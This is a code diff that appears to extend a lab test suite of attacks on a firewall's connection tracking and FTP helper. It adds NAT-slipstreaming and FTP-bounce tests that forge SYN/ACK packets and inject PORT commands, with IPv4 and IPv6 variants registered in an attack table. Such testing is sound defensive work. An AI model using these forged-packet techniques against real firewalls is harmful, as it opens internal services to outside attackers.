@@ -86,6 +86,51 @@ def slipstream_after_gap(stage):
     return stage.reaches(SERVER.name, CLIENT.public4, SERVICE)
 
 
+def slipstream_after_syn_ack(stage):
+    """After the browser's request, the attacker's server sends SYN/ACK, and then plays FTP.
+
+    Conntrack passes such a SYN/ACK as established. A helper that begins anew with it has forgotten the
+    request, and takes its body for the commands of a login.
+    """
+    session = stage.connect()
+    stage.listen(CLIENT.name, SERVICE)
+    say(session.client, "POST / HTTP/1.1", "Host: attacker", "")
+    hear_until(session.server, "Host")
+    say(session.server, "HTTP/1.1 100 Continue", "")
+    hear(session.client)
+    exact = next_of(session.server, session.client)
+    with Forger(stage.lab, SERVER.name, SERVER.link) as forger:
+        forger.send(dataclasses.replace(exact, sequence=exact.sequence - 1, flags=SYN | ACK))
+    for command, answer in (
+        (None, "220 hello"),
+        ("USER a", "331 and?"),
+        ("PASS b", "230 welcome"),
+        (stage.announcement("PORT", stage.public(CLIENT), SERVICE), "200 noted"),
+    ):
+        if command:
+            say(session.client, command)
+            hear_until(session.server, command[:4])
+        say(session.server, answer)
+        hear_until(session.client, answer[:3])
+    return stage.reaches(SERVER.name, stage.public(CLIENT), SERVICE)
+
+
+def bounce_behind_syn_ack(stage):
+    """The client sends SYN/ACK in its server's name, and acknowledges 1 MiB ahead.
+
+    A helper that believes it takes the client's next lines for repetitions, and does not read them.
+    """
+    session = stage.session()
+    exact = next_of(session.server, session.client)
+    ahead = exact.acknowledged + OUT_OF_WINDOW
+    with Forger(stage.lab, CLIENT.name, CLIENT.link) as forger:
+        forger.send(dataclasses.replace(exact, acknowledged=ahead, flags=SYN | ACK))
+    named = stage.announcement("PORT", stage.public(OUTSIDE2), SERVICE)
+    say(session.client, named)
+    heard = hear(session.server)
+    return heard is not None and heard.strip() == named
+
+
 def blind(flag, stage):
     """A third host ends a session in the server's name with guessed sequence numbers.
 
@@ -204,6 +249,10 @@ ATTACKS = (
         functools.partial(in_clients_name, SERVER, 0, 1),
     ),
     Attack("slipstream/after-gap", "routed-client", slipstream_after_gap),
+    Attack("slipstream/after-SYN-ACK", "routed-client", slipstream_after_syn_ack),
+    Attack("slipstream/after-SYN-ACK/ipv6", "routed6-client", slipstream_after_syn_ack),
+    Attack("forged/bounce-behind-SYN-ACK", "routed-client", bounce_behind_syn_ack),
+    Attack("forged/bounce-behind-SYN-ACK/ipv6", "routed6-client", bounce_behind_syn_ack),
     Attack("ended/blind-RST", "routed-client", functools.partial(blind, RST), ENDS_REFUSE, BROKE),
     Attack(
         "ended/blind-FIN", "routed-client", functools.partial(blind, FIN | ACK), ENDS_REFUSE, BROKE
